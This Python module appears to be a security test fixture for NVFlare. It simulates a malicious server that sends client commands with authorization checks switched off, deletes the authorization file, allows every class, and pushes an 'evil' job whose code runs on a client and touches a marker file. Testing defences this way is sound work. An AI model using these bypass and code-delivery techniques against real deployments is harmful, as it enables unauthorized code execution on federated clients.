"""A thief with the cloud's kit: a server that asks nobody's leave, jobs of his own, and a shell."""

import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext
from nvflare.fuel.f3.cellnet.fqcn import FQCN
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, RequestHeader, new_cell_message

ORDERS, ANSWERS = "thief-orders.json", "thief-answers.json"
_LOOK_S = 0.1

CODE = """
from pathlib import Path
Path("{marker}").touch()
from nvflare.apis.executor import Executor
class Evil(Executor):
    def execute(self, *a): pass
"""


class Thief(FLComponent):  # type: ignore[misc]
    """In the server's process: sends what a file in its kit says, without asking any policy, and writes the answers."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self._work, args=(fl_ctx.get_engine(),), daemon=True).start()

    def _work(self, engine: Any) -> None:
        while not Path(ORDERS).exists():
            time.sleep(_LOOK_S)
        orders = json.loads(Path(ORDERS).read_text())
        answers = [list(self._send(engine, **order)) for order in orders]
        Path("part").write_text(json.dumps(answers))
        Path("part").rename(ANSWERS)

    def _send(
        self, engine: Any, topic: str, body: str, job: str = "", headers: dict[str, Any] | None = None
    ) -> Iterator[str]:
        """To every client, or to its process of ``job``."""
        for client in engine.get_clients():
            if job:
                target = FQCN.join([client.name, job])
                request = new_cell_message({}, body)
                reply = engine.server.cell.send_request(CellChannel.CLIENT_COMMAND, topic, target, request, timeout=5.0)
                yield str(reply.payload or reply.headers)
                continue
            message = Message(topic=topic, body=body)
            for name, value in {RequestHeader.REQUIRE_AUTHZ: "false", **(headers or {})}.items():
                message.set_header(name, value)
            replies = engine.server.admin_server.send_requests_and_get_reply_dict({client.token: message}, 5.0)
            yield from (str(reply.body) if reply else "no reply" for reply in replies.values())


def open_the_server(kits: dict[str, Path]) -> None:
    """The thief's changes to the kit that he has: every right is the administrator's, and ``Thief`` is in it."""
    local = kits["cloud"] / "local"
    (local / "authorization.json").unlink()  # NVFlare's own lets the administrator do everything
    resources = json.loads((local / "resources.json").read_text())
    resources["components"].append({"id": "thief", "path": f"{Thief.__module__}.Thief", "args": {}})
    (local / "resources.json").write_text(json.dumps({**resources, "class_allow_list": ["*"]}))


def write_evil_job(folder: Path, module: str, marker: Path, honest: Path) -> Path:
    """The honest job for ``edge1``, but with a class of ``module``, which it brings if that is not of NVFlare's."""
    meta = json.loads((honest / "meta.json").read_text())
    meta = {**meta, "name": "evil", "deploy_map": {"app": ["server", "edge1"]}}
    settings = json.loads((honest / "app/config/config_fed_client.json").read_text())
    settings["executors"][0]["executor"]["path"] = f"{module}.Evil"
    files = {
        "meta.json": json.dumps(meta),
        "app/config/config_fed_server.json": (honest / "app/config/config_fed_server.json").read_text(),
        "app/config/config_fed_client.json": json.dumps(settings),
        f"app/custom/{module.replace('.', '/')}.py": CODE.format(marker=marker),
    }
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content)
    return folder
